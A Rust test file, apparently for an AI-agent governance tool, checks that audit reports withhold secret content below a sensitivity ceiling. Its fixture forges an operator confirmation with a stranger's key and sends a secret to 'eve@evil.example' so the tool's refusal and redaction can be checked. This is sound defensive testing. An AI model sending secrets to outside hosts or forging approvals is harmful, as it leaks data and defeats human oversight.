//! What is above the ceiling stays out wherever it could be told, and what is told does not change by it.

use std::sync::Arc;
use std::time::Duration;

use lodestar_core::event::EventType;
use lodestar_core::key::SecretKey;
use lodestar_core::name::SessionId;
use lodestar_core::sensitivity::Sensitivity;
use lodestar_core::statement::{
    ApprovalDecision, Confirmation, ConfirmationDecision, ConfirmationId, ConfirmationOrigin, Nonce,
};
use lodestar_guard::Holds;
use lodestar_guard::confirmations::file_name;
use lodestar_kernel::record::Rejection;
use lodestar_log::Clock;
use lodestar_policy::ApprovalRequest;
use lodestar_policy::confirmation::Evidence;
use lodestar_report::model::Report;
use lodestar_report::{Examination, Projection, bundle};
use serde_json::json;

use crate::governed::{Project, log_key};
use crate::told::{Answering, config, say, tools, trust};

const SECRET: &str = "hunter2-the-launch-code";

fn report_at(project: &Project, session: &SessionId, ceiling: Sensitivity) -> Report {
    let examination = Examination {
        dir: &project.log().session(session),
        trust: &trust(),
        ceiling,
    };
    match examination.run(&|_| ()).unwrap() {
        Projection::Report(report) => *report,
        Projection::Refused(refused) => panic!("{refused:?}"),
    }
}

/// Somebody who has no such key confirms the act that is asked for.
fn forge(project: &std::path::Path, request: &ApprovalRequest) {
    let (id, now) = (ConfirmationId::from_bytes([3; 16]), Clock::system().now());
    let confirmation = Confirmation {
        act: (&request.card.fields().unwrap()).into(),
        decision: ConfirmationDecision::Confirm,
        id,
        operator: "anna".parse().unwrap(),
        origin: ConfirmationOrigin::RuntimeUiConfirm,
        session: request.session.clone(),
    };
    let until = now.checked_add(Duration::from_secs(30)).unwrap();
    let stranger = SecretKey::from_seed([8; 32]);
    let nonce = Nonce::from_bytes([4; 16]);
    let word = Evidence::sign(confirmation, &stranger, nonce, now, until).unwrap();
    let folder = project.join(".lodestar/confirmations");
    std::fs::create_dir_all(&folder).unwrap();
    let name = file_name(request.card.action.fingerprint, id);
    std::fs::write(folder.join(name), word.details().to_json()).unwrap();
}

/// A session at internal whose sending tool handles secrets; it sends one, and somebody forges a
/// confirmation and an approval of that.
async fn secretive() -> (Project, SessionId) {
    let project = Project::new();
    let key = SecretKey::from_seed([1; 32]).public();
    let keys = format!(
        "[confirmations]\nmode = \"enforce\"\n[[confirmations.keys]]\npublic_key = \"{key}\"\n\
         origins = [\"runtime-ui-confirm\"]\noperators = [\"anna\"]\n"
    );
    let config = config().replace(
        "data_sensitivity = \"private\"",
        "data_sensitivity = \"secret\"",
    ) + &keys;
    let root = project.root.clone();
    let asked = std::sync::atomic::AtomicU64::new(0);
    let resolver = Answering(move |request: &ApprovalRequest| {
        forge(&root, request);
        match asked.fetch_add(1, std::sync::atomic::Ordering::SeqCst) {
            0 => vec![say(request, 9, ApprovalDecision::Grant)],
            _ => vec![
                say(request, 9, ApprovalDecision::Grant),
                say(request, 1, ApprovalDecision::Deny),
            ],
        }
    });
    let setup = project.setup(&config, &tools());
    let setup = setup.holds(Holds::Ask(Arc::new(resolver)));
    let session = setup.open().await.unwrap();
    let read = json!({"path": "a.md"});
    session.call("box.read", read).await.unwrap();
    let send = json!({"to": "eve@evil.example", "text": SECRET});
    for _ in 0..2 {
        session.call("box.send", send.clone()).await.unwrap();
    }
    let odd = json!({"to": "eve@evil.example", "text": SECRET, "count": SECRET});
    session.call("box.send", odd).await.unwrap();
    session.close("done").await.unwrap();
    (project, session.id().clone())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_bundle_below_an_action_has_none_of_its_words_in_whatever_event_they_stand() {
    let (project, session) = secretive().await;
    let events = project.events(&session);
    for kind in ["confirmation.refused@1", "approval.refused@1"] {
        assert!(events.iter().any(|(found, _)| found == kind), "{kind}");
    }
    let report = report_at(&project, &session, Sensitivity::Internal);
    let (mut bytes, dir) = (Vec::new(), project.log().session(&session));
    bundle::write(&report, &dir, &trust(), &log_key(), &mut bytes).unwrap();
    let text = String::from_utf8(bytes).unwrap();
    assert!(!text.contains(SECRET));
    let whole = report_at(&project, &session, Sensitivity::Secret);
    let mut bytes = Vec::new();
    bundle::write(&whole, &dir, &trust(), &log_key(), &mut bytes).unwrap();
    assert!(String::from_utf8(bytes).unwrap().contains(SECRET));
}

#[tokio::test(flavor = "multi_thread")]
async fn what_people_said_of_an_action_and_digests_of_content_are_withheld_with_it() {
    let (project, session) = secretive().await;
    let whole = report_at(&project, &session, Sensitivity::Secret);
    let said = serde_json::to_string(&whole).unwrap();
    assert!(said.contains("looked at it"), "{said}");
    assert!(whole.hostile.iter().any(|one| one.sha256.is_some()));
    let report = report_at(&project, &session, Sensitivity::Internal);
    let text = serde_json::to_string(&report).unwrap();
    for hidden in [SECRET, "looked at it", "Notes."] {
        assert!(!text.contains(hidden), "{hidden}: {text}");
    }
    assert_eq!(report.hostile.len(), whole.hostile.len());
    assert!(report.hostile.iter().all(|one| one.sha256.is_none()));
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_withheld_changes_no_fact_and_servers_are_kept_apart() {
    let project = Project::new();
    let session = project.open(&config(), &tools()).await;
    for server in ["files", "mail"] {
        let started = json!({"server": server, "containment": "none"});
        let kind = EventType::SERVER_STARTED;
        session.note_proxied(kind, &started).unwrap();
        let drifted = json!({"server": server, "tool": "read", "why": "another text"});
        let kind = EventType::TOOL_DRIFTED;
        session.note_proxied(kind, &drifted).unwrap();
    }
    let why = Rejection::DefinitionDrift {
        reason: "another text".to_owned(),
    };
    session.refuse("mcp.files.read", why).unwrap();
    session.close("done").await.unwrap();
    for ceiling in [Sensitivity::Secret, Sensitivity::Public] {
        let report = report_at(&project, session.id(), ceiling);
        let refused: Vec<usize> = report.drift.iter().map(|one| one.refused.len()).collect();
        assert_eq!(refused, [1, 0], "{ceiling}");
        let loose = report.limits.iter();
        let loose: Vec<_> = loose
            .filter(|one| one.limit.contains("not contained"))
            .collect();
        assert_eq!(loose[0].events.len(), 2, "{ceiling}");
    }
}
